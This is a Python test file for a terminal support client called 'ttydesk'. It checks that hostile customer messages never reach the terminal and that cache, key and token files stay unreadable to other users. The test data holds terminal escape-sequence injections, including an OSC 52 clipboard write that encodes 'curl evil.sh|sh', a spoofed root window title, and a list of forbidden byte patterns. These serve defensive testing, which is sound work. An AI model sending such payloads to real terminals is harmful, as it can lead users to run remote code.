#!/usr/bin/env python3
"""ttydesk on a shared server, from outside:

* hostile customer text (OSC 52 clipboard write, window title, screen
  clear, DCS, 8-bit CSI, bidi override, a flood of combining marks) goes
  fake Graph API -> relay -> a real ttydesk in tmux, and the raw bytes
  ttydesk writes to its pty (tmux pipe-pane) carry none of it, while the
  text itself is shown;
* started with umask 000, ttydesk still makes its cache 0700/0600, and a
  throwaway Unix user can read none of the agent's cache, key or token,
  even through a world-searchable home folder.
"""

import os
import pwd
import subprocess
import sys
import time
import unittest

_HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(_HERE, "..", "pylib"))
sys.path.insert(0, os.path.join(_HERE, "..", "e2e"))
from harness import RelayWorld, unique_phone  # noqa: E402
from tui_tmux import TuiSession  # noqa: E402

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"
TITLE = "\x1b]0;root@prod: sudo su\x07"
DCS = "\x1bP1$r0m\x1b\\"
HOSTILE = ("HOSTILE-A " + OSC52 + TITLE + "\x1b[2J\x1b[H" + DCS +
    "\u009b31m\u202eevil\u202c HOSTILE-B e" + "\u0301" * 200 + " END")
# Nothing ncurses draws with: if these bytes reach the pty, the customer
# wrote to the terminal.
FORBIDDEN = {
	"OSC (clipboard, title)": b"\x1b]",
	"DCS": b"\x1bP",
	"APC": b"\x1b_",
	"8-bit CSI": b"\xc2\x9b",
	"right-to-left override": "\u202e".encode(),
	"OSC 52 payload": b"Y3VybCBldmlsLnNo",
	"title text": b"sudo su",
}


class HostileText(unittest.TestCase):

	@classmethod
	def setUpClass(cls):
		cls.world = RelayWorld()
		cls.tui = None

	@classmethod
	def tearDownClass(cls):
		if cls.tui is not None:
			cls.tui.close()
		cls.world.close()
		cls.world.relay.cleanup()

	def test_hostile_text_never_reaches_the_pty(self):
		tui = self.__class__.tui = TuiSession.for_agent(self.world, "alice")
		raw = os.path.join(self.world.relay.dir, "pty.raw")
		tui.start()
		tui.wait_for(lambda s: s.strip() != "", what="the first screen")
		tui.tmux("pipe-pane", "-o", "-t", "0", "cat >> '%s'" % raw)
		time.sleep(0.3)
		fake = self.world.fake
		c = fake.customer(unique_phone(), None, "Eve \x1b]0;pwned\x07Mallory")
		m, code = fake.customer_message(c, "text", text=HOSTILE)
		self.assertEqual(code, 200)
		tui.wait_for("HOSTILE-A", what="the hostile message in the list")
		tui.keys("Enter")
		screen = tui.wait_for("HOSTILE-B", what="the thread view")
		self.assertIn("Mallory", screen)
		time.sleep(0.5)
		tui.tmux("pipe-pane", "-t", "0")
		with open(raw, "rb") as fp:
			data = fp.read()
		self.assertIn(b"HOSTILE-A", data, "pipe-pane captured nothing")
		for what, needle in FORBIDDEN.items():
			self.assertNotIn(needle, data, what + " reached the terminal")
		self.assertEqual(tui.asan_reports(), [])


class OtherUser(unittest.TestCase):
	"""Needs root: a throwaway user is made with useradd and removed."""

	def setUp(self):
		if os.geteuid() != 0:
			self.skipTest("useradd needs root")
		self.user = "ttydhard%d" % (os.getpid() % 100000)
		p = subprocess.run(["useradd", "-M", "-N", "-s", "/usr/sbin/nologin",
		    self.user], stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
		if p.returncode != 0:
			self.skipTest("useradd failed: %s" % p.stdout)
		# The relay first: it refuses a config file others can write,
		# which umask 0 would give it.
		self.world = RelayWorld()
		self.old_umask = os.umask(0)
		self.tui = None

	def tearDown(self):
		os.umask(self.old_umask)
		try:
			if self.tui is not None:
				self.tui.close()
			self.world.close()
			self.world.relay.cleanup()
		finally:
			subprocess.run(["userdel", self.user])

	def as_user(self, *cmd):
		return subprocess.run(["runuser", "-u", self.user, "--"] +
		    list(cmd), stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
		    text=True)

	def assert_unreadable(self, path):
		r = self.as_user("cat", path)
		self.assertNotEqual(r.returncode, 0, "user %s read %s" %
		    (self.user, path))
		self.assertIn("Permission denied", r.stdout)

	def test_other_user_reads_nothing(self):
		tui = self.tui = TuiSession.for_agent(self.world, "alice")
		fake = self.world.fake
		c = fake.customer(unique_phone(), None, "Private Person")
		fake.customer_message(c, "text", text="my card is 4111 1111")
		tui.start()
		tui.wait_for("Private Person", what="the conversation")
		cache = os.path.join(tui.dir, "cache")
		self.assertTrue(os.path.isdir(cache))
		mode = os.stat(cache).st_mode & 0o777
		self.assertEqual(mode, 0o700, "cache dir is %o under umask 000"
		    % mode)
		files = [os.path.join(cache, f) for f in os.listdir(cache)]
		self.assertTrue(files)
		for f in files:
			mode = os.stat(f).st_mode & 0o777
			self.assertEqual(mode & 0o077, 0, "%s is %o" % (f, mode))
		# A home folder others can search, as on many servers.
		os.chmod(tui.dir, 0o755)
		for f in files + [os.path.join(tui.dir, "cache.key"),
		    os.path.join(tui.dir, "token")]:
			self.assert_unreadable(f)
		r = self.as_user("ls", cache)
		self.assertNotEqual(r.returncode, 0, "listed " + cache)
		uid = pwd.getpwnam(self.user).pw_uid
		self.assertNotEqual(uid, 0)


if __name__ == "__main__":
	unittest.main(verbosity=2)
